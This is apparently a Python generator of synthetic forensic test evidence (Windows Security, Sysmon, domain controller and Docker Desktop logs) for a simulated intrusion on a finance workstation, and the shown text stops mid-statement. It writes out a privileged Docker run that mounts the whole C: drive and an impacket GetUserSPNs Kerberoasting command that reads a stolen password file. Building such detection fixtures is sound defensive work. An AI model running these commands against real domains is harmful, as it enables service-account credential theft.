#!/usr/bin/env python3
"""Writes the sources of incident 3, "desktop-workstation" (EXPECTED.md beside this file).

A Windows 11 finance workstation (WS-FIN-22) running Docker Desktop (WSL 2 engine)
and the domain controller DC-EAST of NORTHWIND.LAN on 2026-09-03 (UTC), both
collected with KAPE. Outputs, relative to --out (default: this script's folder):
  src/WS-FIN-22-Security.jsonl, src/WS-FIN-22-Sysmon.jsonl, src/DC-EAST-Security.jsonl
                                evtxgen input
  src/EVTX                      which .evtx file each .jsonl becomes (for build.sh)
  collection/WS-FIN-22/C/Users/jsmith/AppData/Local/Docker/log/...
                                Docker Desktop's logs: vm/init.log (current format),
                                vm/dockerd.log (stale, older format), host/*.log
and prints the key events (file, record or line, time) on stdout.

Deterministic: its own PRNG, no clock; a run reproduces the committed files byte
for byte (tests/incidents-evidence.sh checks it).
"""
import argparse
import datetime
import hashlib
import json
import os
import sys

sys.dont_write_bytecode = True     # no __pycache__ in the source tree (EXTRA_DIST ships the folder)
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from incidentlib import (Clock, Domain, Log, Rng, Security, Sysmon, SEC_GUID,  # noqa: E402
                         SEC_PROVIDER, SYSMON_CHANNEL, SYSMON_GUID, SYSMON_PROVIDER, go_json,
                         logrus_text, write_lines)

GEN = "tests/data/incidents/desktop-workstation/mkincident.py"
C = Clock(datetime.datetime(2026, 9, 3))
T = Clock.T
R = Rng(20260903)

REALM = "NORTHWIND.LAN"
DOM = Domain("NORTHWIND", REALM, "S-1-5-21-3920371662-1517603852-2807415093", {
    "Administrator": 500, "krbtgt": 502, "DC-EAST$": 1000,
    "jsmith": 1104, "a.dubois": 1105, "k.osei": 1106,
    "WS-FIN-22$": 1120, "WS-FIN-17$": 1121, "WS-HR-03$": 1122, "FS-EAST$": 1123,
    "SCAN-FL2$": 1124,
    "svc_finrpt": 1301, "svc_sqlfin": 1302, "svc_sapbridge": 1303, "svc_ocr": 1304,
    "svc_printq": 1305, "svc_timesheet": 1306,
})
SEC = Security(DOM, R)

WS = "WS-FIN-22.northwind.lan"
WS_SHORT = "WS-FIN-22"
WS_IP = "10.30.8.22"
DC = "DC-EAST.northwind.lan"
DC_IP = "10.30.0.5"
WS17, WS17_IP = "WS-FIN-17", "10.30.8.17"
HR03, HR03_IP = "WS-HR-03", "10.30.9.3"
FS_IP = "10.30.1.10"
SCAN_IP = "10.30.8.200"
USER = "NORTHWIND\\jsmith"
SYS = "NT AUTHORITY\\SYSTEM"
JSMITH_LID = "0x2f4c1a"

API = "/v1.52"
ENGINE = "29.1.3"
OLD_API = "/v1.51"
OLD_ENGINE = "28.3.2"
DD_BIN = "C:\\Program Files\\Docker\\Docker\\"
DOCKER_EXE = DD_BIN + "resources\\bin\\docker.exe"
BACKEND_EXE = DD_BIN + "resources\\com.docker.backend.exe"
DOCKER_LOG = "C/Users/jsmith/AppData/Local/Docker/log"
HOST_C = "/run/desktop/mnt/host/c"     # how the VM sees C:\ (Docker Desktop's path translation)
NETKIT = "quay.io/redteam-lab/netkit:1.7"
PASSWORD_FILE = "/host/Users/jsmith/AppData/Local/Temp/.p"


def hexid(what, n=64):
    return hashlib.sha256(("incident-3/" + what).encode()).hexdigest()[:n]


HELPER_ID = hexid("container/wsl-helper")
LEDGER_ID = hexid("container/ledger-recon")
OLD_LEDGER_ID = hexid("container/ledger-recon-august")


# ---------------------------------------------------------------- Docker Desktop logs

class InitLog:
    """log/vm/init.log: one JSON object per line. Only `component` is documented
    (docker/docs#24929); `time`, `level` and `msg` are assumed (README.md): the VM's
    init logs each line a service writes, the line itself in `msg`, at info."""

    def __init__(self):
        self.lines = []            # (ticks, seq, text, key)
        self.seq = 0

    def raw(self, ticks, component, msg, key=None):
        obj = {"component": component, "level": "info", "msg": msg,
               "time": C.nano(ticks + 1_800, R.below(100))}
        self.lines.append((ticks, self.seq, json.dumps(obj, ensure_ascii=False,
                                                       separators=(",", ":")), key))
        self.seq += 1

    def logrus(self, ticks, component, level, msg, fields=(), key=None):
        self.raw(ticks, component, logrus_text(C.nano9(ticks, R.below(100)), level, msg, fields),
                 key)

    def write(self, path, keys, name="init.log"):
        self.lines.sort(key=lambda e: (e[0], e[1]))
        out = []
        for n, (ticks, _, text, key) in enumerate(self.lines, 1):
            out.append(text)
            if key:
                keys.append((name, "line %d" % n, C.rfc(ticks), key))
        write_lines(path, out)


class OldVmLog(InitLog):
    """log/vm/dockerd.log as Docker Desktop wrote it before init.log:
    "<RFC 3339 seconds> <component> <the service's line>"."""

    def raw(self, ticks, component, msg, key=None):
        self.lines.append((ticks, self.seq, "%s %s %s" % (C.seconds(ticks), component, msg), key))
        self.seq += 1


class HostLog(InitLog):
    """log/host/<process>.log: "[time][component][L] message"."""

    def host(self, ticks, component, level, msg, key=None):
        self.lines.append((ticks, self.seq, "[%s][%s][%s] %s" % (
            C.nano9(ticks, R.below(100)), component, level, msg), key))
        self.seq += 1


def create_body(image, cmd, binds=None, privileged=False, name_env=None, workdir="",
                attach=True, auto_remove=False):
    host_config = {
        "AutoRemove": auto_remove, "Binds": binds, "BlkioDeviceReadBps": [],
        "BlkioDeviceReadIOps": [], "BlkioDeviceWriteBps": [], "BlkioDeviceWriteIOps": [],
        "BlkioWeight": 0, "BlkioWeightDevice": [], "CapAdd": None, "CapDrop": None,
        "Cgroup": "", "CgroupParent": "", "CgroupnsMode": "", "ConsoleSize": [0, 0],
        "ContainerIDFile": "", "CpuCount": 0, "CpuPercent": 0, "CpuPeriod": 0, "CpuQuota": 0,
        "CpuRealtimePeriod": 0, "CpuRealtimeRuntime": 0, "CpuShares": 0, "CpusetCpus": "",
        "CpusetMems": "", "DeviceCgroupRules": None, "DeviceRequests": None, "Devices": [],
        "Dns": [], "DnsOptions": [], "DnsSearch": [], "ExtraHosts": None, "GroupAdd": None,
        "IOMaximumBandwidth": 0, "IOMaximumIOps": 0, "IpcMode": "", "Isolation": "",
        "Links": None, "LogConfig": {"Config": {}, "Type": ""}, "MaskedPaths": None,
        "Memory": 0, "MemoryReservation": 0, "MemorySwap": 0, "MemorySwappiness": -1,
        "NanoCpus": 0, "NetworkMode": "default", "OomKillDisable": None, "OomScoreAdj": 0,
        "PidMode": "", "PidsLimit": None, "PortBindings": {}, "Privileged": privileged,
        "PublishAllPorts": False, "ReadonlyPaths": None, "ReadonlyRootfs": False,
        "RestartPolicy": {"MaximumRetryCount": 0, "Name": "no"}, "SecurityOpt": None,
        "ShmSize": 0, "UTSMode": "", "Ulimits": None, "UsernsMode": "", "VolumeDriver": "",
        "VolumesFrom": None,
    }
    return {
        "AttachStderr": attach, "AttachStdin": False, "AttachStdout": attach, "Cmd": cmd,
        "Domainname": "", "Entrypoint": None, "Env": name_env or [], "HostConfig": host_config,
        "Hostname": "", "Image": image, "Labels": {},
        "NetworkingConfig": {"EndpointsConfig": {}}, "OnBuild": None, "OpenStdin": False,
        "StdinOnce": False, "Tty": False, "User": "", "Volumes": {}, "WorkingDir": workdir,
    }


def engine_start(log, t, engine, snapshotter, api_sock, key=None):
    c = lambda dt, lvl, msg, f=(), k=None: log.logrus(t + dt, "dockerd", lvl, msg, f, k)
    c(0, "info", "Starting up")
    c(812_300, "info", "Loading containers: start.")
    c(2_904_100, "info", "Loading containers: done.")
    c(3_418_700, "info", "Docker daemon", [("commit", "a1f3e82" if engine == ENGINE else "e77ff99"),
                                           ("containerd-snapshotter", snapshotter),
                                           ("storage-driver", "overlayfs" if snapshotter == "true"
                                            else "overlay2"), ("version", engine)])
    c(3_502_900, "info", "Daemon has completed initialization")
    c(3_617_200, "info", "API listen on " + api_sock, k=key)


def build(out):
    keys = []
    srcdir = os.path.join(out, "src")
    coll = os.path.join(out, "collection", WS_SHORT)
    os.makedirs(srcdir, exist_ok=True)
    init = InitLog()
    old = OldVmLog()
    hostlog = HostLog()
    ws_sec = Log(C, "WS-FIN-22-Security.jsonl", 93117, {
        "channel": "Security", "provider": SEC_PROVIDER, "provider_guid": SEC_GUID,
        "computer": WS, "process_id": 1044}, GEN)
    ws_sys = Log(C, "WS-FIN-22-Sysmon.jsonl", 1408822, {
        "channel": SYSMON_CHANNEL, "provider": SYSMON_PROVIDER, "provider_guid": SYSMON_GUID,
        "computer": WS, "keywords": "0x8000000000000000", "user_sid": "S-1-5-18",
        "process_id": 3948}, GEN)
    dc = Log(C, "DC-EAST-Security.jsonl", 27704519, {
        "channel": "Security", "provider": SEC_PROVIDER, "provider_guid": SEC_GUID,
        "computer": DC, "process_id": 688}, GEN)
    SM = Sysmon(C, R, WS, WS_IP, "8e2b41f0")

    # ---------------------------------------------------------------- processes
    services = SM.proc("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe",
                       SYS, 1012)
    svchost = SM.proc("C:\\Windows\\System32\\svchost.exe",
                      "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache", SYS,
                      2216, services, meta=("10.0.22621.1 (WinBuild.160101.0800)",
                                            "Host Process for Windows Services",
                                            "Microsoft\u00ae Windows\u00ae Operating System",
                                            "Microsoft Corporation", "svchost.exe"))
    lsass = SM.proc("C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", SYS,
                    1044)
    explorer = SM.proc("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", USER, 7316,
                       services, cwd="C:\\Windows\\system32\\", integrity="Medium",
                       logon_id=JSMITH_LID)
    chrome = SM.proc("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", USER, 9420,
                     explorer, cwd="C:\\Program Files\\Google\\Chrome\\Application\\",
                     integrity="Medium", logon_id=JSMITH_LID,
                     meta=("128.0.6613.120", "Google Chrome", "Google Chrome", "Google LLC",
                           "chrome.exe"))
    teams = SM.proc("C:\\Program Files\\WindowsApps\\MSTeams_25227.203.3733.2114_x64__8wekyb3d8bbwe"
                    "\\ms-teams.exe", "\"ms-teams.exe\"", USER, 10548, explorer,
                    cwd="C:\\Windows\\system32\\", integrity="Medium", logon_id=JSMITH_LID,
                    meta=("25227.203.3733.2114", "Microsoft Teams", "Microsoft Teams",
                          "Microsoft Corporation", "ms-teams.exe"))
    excel = SM.proc("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" "
                    "\"\\\\FS-EAST\\Finance$\\Close\\2026-08\\recon-ledger.xlsx\"", USER, 12764,
                    explorer, cwd="C:\\Users\\jsmith\\Documents\\", integrity="Medium",
                    logon_id=JSMITH_LID, meta=("16.0.18025.20160", "Microsoft Excel",
                                               "Microsoft Office", "Microsoft Corporation",
                                               "Excel.exe"))
    dd_gui = SM.proc(DD_BIN + "Docker Desktop.exe", "\"%sDocker Desktop.exe\"" % DD_BIN, USER,
                     8604, explorer, cwd=DD_BIN, integrity="Medium", logon_id=JSMITH_LID,
                     meta=("4.58.0.213617", "Docker Desktop", "Docker Desktop", "Docker Inc.",
                           "Docker Desktop.exe"))
    backend = SM.proc(BACKEND_EXE, "\"%s\"" % BACKEND_EXE, USER, 9312, dd_gui, cwd=DD_BIN,
                      integrity="Medium", logon_id=JSMITH_LID,
                      meta=("4.58.0.213617", "Docker Desktop Backend", "Docker Desktop",
                            "Docker Inc.", "com.docker.backend.exe"))

    # ---------------------------------------------------------------- the morning
    # jsmith logs on (interactive: loopback address; the workstation's name)
    ev, _ = SEC.e4624("jsmith", "NORTHWIND", 2, "127.0.0.1", 0, workstation=WS_SHORT,
                      lid=JSMITH_LID, subject="S-1-5-18", subject_name="WS-FIN-22$",
                      process="C:\\Windows\\System32\\svchost.exe", pid="0x4c4",
                      auth="Negotiate", proc_name="User32 ", elevated=False)
    ws_sec.add(T(7, 55, 31, 204_000), ev, key="jsmith interactive logon (127.0.0.1: loopback)")
    dc.add(T(12, 40, 2, 514_000), SEC.e4768("jsmith", WS_IP),
           key="jsmith TGT after unlocking (benign: AES, pre-auth)")
    # Docker Desktop starts with jsmith's session
    t = T(8, 1, 9, 402_000)
    ws_sec.add(t, SEC.e4688("jsmith", JSMITH_LID, dd_gui.pid, dd_gui.image, dd_gui.cmd,
                            explorer.pid, explorer.image, elevation="%%1938"))
    ws_sec.add(t + 7_310_000, SEC.e4688("jsmith", JSMITH_LID, backend.pid, backend.image,
                                        backend.cmd, dd_gui.pid, dd_gui.image, elevation="%%1938"))
    hostlog.host(t + 74_000_000, "com.docker.backend.exe", "I",
                 "Docker Desktop 4.58.0 (213617), engine %s, WSL 2 backend" % ENGINE)
    hostlog.host(t + 79_000_000, "com.docker.backend.exe", "I", "starting WSL distribution "
                 "docker-desktop")
    hostlog.host(t + 142_000_000, "com.docker.backend.exe", "I", "engine linux/wsl is running")
    init.raw(t + 110_040_000, "init", "starting services: containerd, dockerd")
    init.logrus(t + 113_050_000, "containerd", "info", "starting containerd",
                [("revision", "05044ec0a9a75232cad458027ca83437aae3f4da"), ("version", "v2.1.4")])
    init.logrus(t + 117_200_000, "containerd", "info", "containerd successfully booted in 0.081223s")
    engine_start(init, t + 120_060_000, ENGINE, "true", "/var/run/docker.sock",
                 key="daemon API on the VM's unix socket (not TCP)")

    # 09:12 a legitimate run: jsmith's own reconciliation script, her project folder mounted
    t = T(9, 12, 30, 118_000)
    ledger_cmd = ["python", "reconcile.py", "--month", "2026-08"]
    init.logrus(t, "dockerd", "debug", "Calling HEAD /_ping")
    init.logrus(t + 3_100, "dockerd", "debug", "Calling POST %s/containers/create?name="
                "ledger-recon" % API)
    init.logrus(t + 3_600, "dockerd", "debug", "form data: " + go_json(create_body(
        "python:3.12-slim", ledger_cmd, [HOST_C + "/Users/jsmith/projects/ledger:/work"],
        workdir="/work")), key="ledger-recon create (benign: her project folder only)")
    init.logrus(t + 512_300, "dockerd", "debug", "Calling POST %s/containers/%s/attach?stderr=1"
                "&stdout=1&stream=1" % (API, LEDGER_ID))
    init.logrus(t + 541_900, "dockerd", "debug", "Calling POST %s/containers/%s/wait?"
                "condition=next-exit" % (API, LEDGER_ID))
    init.logrus(t + 566_800, "dockerd", "debug", "Calling POST %s/containers/%s/start"
                % (API, LEDGER_ID), key="ledger-recon started")
    init.logrus(t + 1_204_700, "containerd", "info", "starting signal loop", [
        ("namespace", "moby"), ("path", "/var/run/desktop-containerd/daemon/io.containerd.runtime."
                                        "v2.task/moby/" + LEDGER_ID),
        ("pid", "4518"), ("runtime", "io.containerd.runc.v2")])
    te = t + 418_000_000
    init.logrus(te, "containerd", "info", "shim disconnected", [("id", LEDGER_ID),
                                                                ("namespace", "moby")])
    init.logrus(te + 21_000, "dockerd", "info", "ignoring event", [
        ("container", LEDGER_ID), ("module", "libcontainerd"), ("namespace", "moby"),
        ("topic", "/tasks/delete"), ("type", "*events.TaskDelete")])
    init.logrus(te + 95_004_000, "dockerd", "debug", "Calling DELETE %s/containers/ledger-recon"
                % API)

    # 10:30 a create that never happened: a mistyped tag, 404, the pull fails, no container
    t = T(10, 30, 2, 907_000)
    init.logrus(t, "dockerd", "debug", "Calling HEAD /_ping")
    init.logrus(t + 2_900, "dockerd", "debug", "Calling POST %s/containers/create?name=report-db"
                % API, key="report-db create -> 404 (image missing; never created)")
    init.logrus(t + 3_300, "dockerd", "debug", "form data: " + go_json(create_body(
        "postgres:16.44", None, None, attach=False,
        name_env=["POSTGRES_DB=reports", "POSTGRES_HOST_AUTH_METHOD=trust"])))
    init.logrus(t + 71_400, "dockerd", "debug", "Calling POST %s/images/create?fromImage=postgres"
                "&tag=16.44" % API, key="report-db image pull (fails: manifest unknown)")

    # ---------------------------------------------------------------- the attack (13:38-13:44)
    tupd = SM.proc("C:\\Users\\jsmith\\AppData\\Roaming\\Microsoft\\Teams\\tupd.exe",
                   "\"C:\\Users\\jsmith\\AppData\\Roaming\\Microsoft\\Teams\\tupd.exe\" /silent",
                   USER, 5788, explorer, cwd="C:\\Users\\jsmith\\", integrity="Medium",
                   logon_id=JSMITH_LID, meta=("1.0.4.2", "-", "-", "-", "-"))
    ps = SM.proc("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden", USER, 11080,
                 tupd, cwd="C:\\Users\\jsmith\\", integrity="Medium", logon_id=JSMITH_LID,
                 meta=("10.0.22621.3527 (WinBuild.160101.0800)", "Windows PowerShell",
                       "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation",
                       "PowerShell.EXE"))
    docker_meta = ("29.1.3", "Docker Client", "Docker", "Docker Inc.", "docker.exe")
    run = SM.proc(DOCKER_EXE, "\"%s\" run -d --name wsl-helper --privileged -v C:\\:/host %s "
                  "sleep infinity" % (DOCKER_EXE, NETKIT), USER, 6204, ps,
                  cwd="C:\\Users\\jsmith\\", integrity="Medium", logon_id=JSMITH_LID,
                  meta=docker_meta)
    spn_cmd = ("python3 /opt/impacket/examples/GetUserSPNs.py -request -dc-ip %s -outputfile "
               "/host/Users/Public/Documents/.r.txt northwind.lan/jsmith:$(cat %s)"
               % (DC_IP, PASSWORD_FILE))
    exe = SM.proc(DOCKER_EXE, "\"%s\" exec wsl-helper sh -c \"%s\"" % (DOCKER_EXE, spn_cmd), USER,
                  7732, ps, cwd="C:\\Users\\jsmith\\", integrity="Medium", logon_id=JSMITH_LID,
                  meta=docker_meta)
    t = T(13, 38, 12, 406_000)
    ws_sys.add(t, SM.s1(t, tupd), key="tupd.exe (fake Teams updater) starts")
    ws_sys.add(t + 2_118_000, SM.s1(t + 2_118_000, ps))
    ws_sec.add(t + 2_126_000, SEC.e4688("jsmith", JSMITH_LID, ps.pid, ps.image, ps.cmd, tupd.pid,
                                        tupd.image))
    t = T(13, 41, 5, 118_000)
    ws_sys.add(t, SM.s1(t, run), key="docker run --privileged -v C:\\:/host (Sysmon 1)")
    ws_sec.add(t + 12_000, SEC.e4688("jsmith", JSMITH_LID, run.pid, run.image, run.cmd, ps.pid,
                                     ps.image), key="docker run --privileged -v C:\\:/host (4688)")
    # Docker Desktop: create -> 404 (image missing), pull, create again, start
    helper_cmd = ["sleep", "infinity"]
    body = go_json(create_body(NETKIT, helper_cmd, [HOST_C + ":/host"], privileged=True,
                               attach=False))
    ti = T(13, 41, 5, 521_000)
    init.logrus(ti, "dockerd", "debug", "Calling HEAD /_ping")
    init.logrus(ti + 3_900, "dockerd", "debug", "Calling POST %s/containers/create?name="
                "wsl-helper" % API, key="wsl-helper create #1 -> 404 (image missing)")
    init.logrus(ti + 4_400, "dockerd", "debug", "form data: " + body)
    init.logrus(ti + 227_600, "dockerd", "debug", "Calling POST %s/images/create?fromImage="
                "quay.io%%2Fredteam-lab%%2Fnetkit&tag=1.7" % API, key="wsl-helper image pull")
    ws_sys.add(ti + 301_000, SM.s22(ti + 301_000, backend, "quay.io",
                                    "type:  5 cdn01.quay.io;::ffff:3.227.58.41;::ffff:52.5.100.49;"))
    ws_sys.add(ti + 1_402_000, SM.s3(ti + 1_402_000, backend, "3.227.58.41", "-", 443, "https",
                                     58211))
    ti = T(13, 41, 19, 268_000)
    init.logrus(ti, "dockerd", "debug", "Calling POST %s/containers/create?name=wsl-helper" % API,
                key="wsl-helper create #2 (201)")
    init.logrus(ti + 500, "dockerd", "debug", "form data: " + body,
                key="wsl-helper body: Privileged true, Binds %s:/host (C:\\)" % HOST_C)
    init.logrus(ti + 224_700, "dockerd", "debug", "Calling POST %s/containers/%s/start"
                % (API, HELPER_ID), key="start wsl-helper (64-hex id)")
    init.logrus(ti + 351_900, "containerd", "info", "starting signal loop", [
        ("namespace", "moby"), ("path", "/var/run/desktop-containerd/daemon/io.containerd.runtime."
                                        "v2.task/moby/" + HELPER_ID),
        ("pid", "6630"), ("runtime", "io.containerd.runc.v2")],
        key="containerd: the task of wsl-helper's id")
    ws_sys.add(ti + 1_152_000, SM.s5(ti + 1_152_000, run))
    # 13:43 the Kerberoast from inside the container
    t = T(13, 43, 38, 902_000)
    ws_sys.add(t, SM.s1(t, exe), key="docker exec wsl-helper ... GetUserSPNs.py (Sysmon 1)")
    ws_sec.add(t + 9_000, SEC.e4688("jsmith", JSMITH_LID, exe.pid, exe.image, exe.cmd, ps.pid,
                                    ps.image))
    eid = hexid("exec/kerberoast")
    ti = t + 391_000
    init.logrus(ti, "dockerd", "debug", "Calling HEAD /_ping")
    init.logrus(ti + 3_300, "dockerd", "debug", "Calling POST %s/containers/wsl-helper/exec" % API,
                key="exec in wsl-helper")
    init.logrus(ti + 3_700, "dockerd", "debug", "form data: " + go_json({
        "AttachStderr": True, "AttachStdin": False, "AttachStdout": True,
        "Cmd": ["sh", "-c", spn_cmd], "ConsoleSize": [0, 0], "Detach": False, "DetachKeys": "",
        "Env": None, "Privileged": False, "Tty": False, "User": "", "WorkingDir": ""}))
    init.logrus(ti + 8_100, "dockerd", "debug", "Calling POST %s/exec/%s/start" % (API, eid))
    init.logrus(ti + 8_400, "dockerd", "debug", "form data: " + go_json({
        "ConsoleSize": [0, 0], "Detach": False, "Tty": False}))
    init.logrus(ti + 8_900, "dockerd", "debug", "starting exec command %s in container %s"
                % (eid, HELPER_ID))
    # the container's traffic leaves the workstation through Docker Desktop's backend
    t = T(13, 43, 41, 330_000)
    ws_sys.add(t, SM.s3(t, backend, DC_IP, DC, 389, "ldap", 58240),
               key="com.docker.backend.exe -> DC-EAST:389 (the SPN search)")
    kerb = [(T(13, 43, 43, 118_000), 58244)] + [(T(13, 43, 44, 102_000) + i * 5_260_000,
                                                  58246 + 2 * i) for i in range(6)]
    for i, (tt, port) in enumerate(kerb):
        ws_sys.add(tt, SM.s3(tt, backend, DC_IP, DC, 88, "kerberos", port),
                   key="com.docker.backend.exe -> DC-EAST:88" if i == 0 else None)
    # DC-EAST: the TGT (impacket with a password: RC4 with pre-authentication) and the roast
    dc.add(kerb[0][0] + 98_000, SEC.e4768("jsmith", WS_IP, etype="0x17", preauth="2",
                                          options="0x50800000", port=kerb[0][1]),
           key="TGT for jsmith from 10.30.8.22 (RC4, with pre-auth: impacket)")
    ev, lid = SEC.e4624("jsmith", "NORTHWIND", 3, WS_IP, 58240, workstation="-", auth="NTLM",
                        proc_name="NtLmSsp ", lm="NTLM V2", key_length=128)
    dc.add(T(13, 43, 41, 402_000), ev, key="NTLM network logon (the LDAP bind; no workstation name)")
    dc.add(T(13, 43, 49, 911_000), SEC.e4634("jsmith", "NORTHWIND", lid, 3))
    roast = ["svc_finrpt", "svc_sqlfin", "svc_sapbridge", "svc_ocr", "svc_printq", "svc_timesheet"]
    for i, svc in enumerate(roast):
        tt, port = kerb[i + 1]
        dc.add(tt + 101_000, SEC.e4769("jsmith", svc, WS_IP, etype="0x17", options="0x40810010",
                                       port=port), key="Kerberoasting: RC4 TGS for " + svc)
    ws_sys.add(T(13, 44, 2, 17_000), SM.s5(T(13, 44, 2, 17_000), exe))
    init.logrus(T(13, 44, 1, 940_000), "dockerd", "debug", "Calling GET %s/exec/%s/json"
                % (API, eid))

    # ---------------------------------------------------------------- stale dockerd.log
    # the older Docker Desktop (4.44, engine 28.3) that ran until the upgrade on 2026-08-18
    t = T(8, 2, 40, 310_000) - 24 * 86400 * 10_000_000     # 2026-08-10
    engine_start(old, t, OLD_ENGINE, "false", "/var/run/docker.sock")
    t = T(14, 20, 11, 882_000) - 22 * 86400 * 10_000_000    # 2026-08-12
    old.logrus(t, "dockerd", "debug", "Calling HEAD /_ping")
    old.logrus(t + 2_900, "dockerd", "debug", "Calling POST %s/containers/create?name=ledger-recon"
               % OLD_API)
    old.logrus(t + 3_400, "dockerd", "debug", "form data: " + go_json(create_body(
        "python:3.12-slim", ["python", "reconcile.py", "--month", "2026-07"],
        [HOST_C + "/Users/jsmith/projects/ledger:/work"], workdir="/work")),
        key="stale: ledger-recon create in August (benign)")
    old.logrus(t + 488_100, "dockerd", "debug", "Calling POST %s/containers/%s/start"
               % (OLD_API, OLD_LEDGER_ID), key="stale: ledger-recon start (benign)")
    old.logrus(t + 389_000_000, "dockerd", "info", "ignoring event", [
        ("container", OLD_LEDGER_ID), ("module", "libcontainerd"), ("namespace", "moby"),
        ("topic", "/tasks/delete"), ("type", "*events.TaskDelete")])
    old.logrus(t + 396_200_000, "dockerd", "debug", "Calling DELETE %s/containers/ledger-recon"
               % OLD_API)
    t = T(16, 47, 3, 112_000) - 16 * 86400 * 10_000_000    # 2026-08-18: quit before the upgrade
    old.logrus(t, "dockerd", "info", "Processing signal 'terminated'")
    old.logrus(t + 301_500, "dockerd", "info", "Daemon shutdown complete")
    hostlog.host(t + 4_900_000, "com.docker.backend.exe", "I", "Docker Desktop 4.44.3 (202357) "
                 "stopping: update to 4.58.0 (213617) downloaded")

    # ---------------------------------------------------------------- Sysmon: routine
    sites = [("142.250.185.78", "fra16s48-in-f14.1e100.net", chrome),
             ("52.113.194.132", "-", teams), ("13.107.6.171", "-", teams),
             ("52.123.129.14", "-", excel)]
    dns = [(chrome, "mail.google.com", "type:  5 googlemail.l.google.com;::ffff:142.250.185.69;"),
           (teams, "teams.microsoft.com", "type:  5 teams-office-com.s-0005.dc-msedge.net;"
                                          "::ffff:52.123.129.14;"),
           (svchost, "DC-EAST.northwind.lan", "::ffff:10.30.0.5;"),
           (svchost, "FS-EAST.northwind.lan", "::ffff:10.30.1.10;")]
    dlls = ["ntdll.dll", "kernel32.dll", "KernelBase.dll", "bcrypt.dll", "crypt32.dll",
            "ws2_32.dll", "winhttp.dll", "dnsapi.dll", "secur32.dll", "amsi.dll"]
    t = T(12, 30, 0)
    while t < T(14, 10, 0):
        k = R.below(100)
        if k < 40:
            p = R.choice([chrome, teams, excel, svchost, chrome])
            ws_sys.add(t, SM.s7(t, p, "C:\\Windows\\System32\\" + R.choice(dlls)))
        elif k < 55:
            ws_sys.add(t, SM.s3(t, lsass, DC_IP, DC, R.choice([88, 88, 389]),
                                "kerberos" if R.below(3) else "ldap", 49152 + R.below(16000)))
        elif k < 70:
            ip, name, p = R.choice(sites)
            ws_sys.add(t, SM.s3(t, p, ip, name, 443, "https", 49152 + R.below(16000)))
        elif k < 80:
            p, q, res = R.choice(dns)
            ws_sys.add(t, SM.s22(t, p, q, res))
        elif k < 88:
            ws_sys.add(t, SM.s3(t, svchost, FS_IP, "FS-EAST.northwind.lan", 445, "microsoft-ds",
                                49152 + R.below(16000)))
        elif k < 95:
            ws_sys.add(t, SM.s11(t, chrome, "C:\\Users\\jsmith\\AppData\\Local\\Google\\Chrome\\"
                                 "User Data\\Default\\Cache\\Cache_Data\\f_%s" % R.hexs(6, False)))
        else:
            ws_sys.add(t, SM.s13(t, explorer, "HKU\\%s\\Software\\Microsoft\\Windows\\"
                                 "CurrentVersion\\Explorer\\RecentDocs\\.xlsx\\MRUListEx"
                                 % DOM.sid("jsmith"), "Binary Data"))
        t += 20 * 10_000_000 + R.below(50 * 10_000_000)

    # ---------------------------------------------------------------- WS-FIN-22 Security: routine
    t = T(7, 52, 0)
    while t < T(14, 10, 0):
        k = R.below(10)
        if k < 5:
            ev, lid = SEC.e4624("SYSTEM", "NT AUTHORITY", 5, "-", "-", lid="0x3e7",
                                subject="S-1-5-18", subject_name="WS-FIN-22$",
                                process="C:\\Windows\\System32\\services.exe", pid="0x3f4",
                                auth="Negotiate", proc_name="Advapi  ", user_sid="S-1-5-18")
            ws_sec.add(t, ev)
            ws_sec.add(t + 1_000, SEC.e4672("SYSTEM", "0x3e7", user_sid="S-1-5-18"))
        elif k < 8:
            img, cmd = R.choice([
                ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe -RegisterDevice"),
                ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                 "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer"),
                ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe "
                                                      "0xffffffff -ForceV1")])
            ws_sec.add(t, SEC.e4688("jsmith", JSMITH_LID, 4000 + 4 * R.below(3000), img, cmd,
                                    explorer.pid, explorer.image))
        else:
            # the screen locks and unlocks (7), her credentials refreshed
            ev, lid = SEC.e4624("jsmith", "NORTHWIND", 7, "127.0.0.1", 0, workstation=WS_SHORT,
                                subject="S-1-5-18", subject_name="WS-FIN-22$",
                                process="C:\\Windows\\System32\\svchost.exe", pid="0x4c4",
                                auth="Negotiate", proc_name="User32 ", elevated=False)
            ws_sec.add(t, ev)
        t += 2 * 60 * 10_000_000 + R.below(4 * 60 * 10_000_000)

    # ---------------------------------------------------------------- DC-EAST: routine and look-alikes
    clients = [("jsmith", WS_IP, WS_SHORT), ("WS-FIN-22$", WS_IP, WS_SHORT),
               ("a.dubois", WS17_IP, WS17), ("WS-FIN-17$", WS17_IP, WS17),
               ("k.osei", HR03_IP, HR03), ("FS-EAST$", FS_IP, "FS-EAST")]
    services = ["DC-EAST$", "DC-EAST$", "FS-EAST$", "svc_finrpt", "svc_sqlfin", "svc_timesheet",
                "svc_printq"]
    t = T(12, 10, 0)
    while t < T(14, 10, 0):
        user, ip, ws = R.choice(clients)
        k = R.below(20)
        if k < 5:
            dc.add(t, SEC.e4768(user, ip))
        elif k < 12:
            svc = R.choice(services)
            if svc.rstrip("$") == user.rstrip("$"):
                svc = "DC-EAST$"
            dc.add(t, SEC.e4769(user, svc, ip))
        elif k < 16:
            ev, lid = SEC.e4624(user, REALM if not user.endswith("$") else "NORTHWIND", 3, ip,
                                SEC.port())
            dc.add(t, ev)
            dc.add(t + 3_000_000 + R.below(40_000_000), SEC.e4634(user, "NORTHWIND", lid, 3))
        elif k < 18 and not user.endswith("$"):
            ev, lid = SEC.e4624(user, "NORTHWIND", 3, ip, SEC.port(), workstation=ws, auth="NTLM",
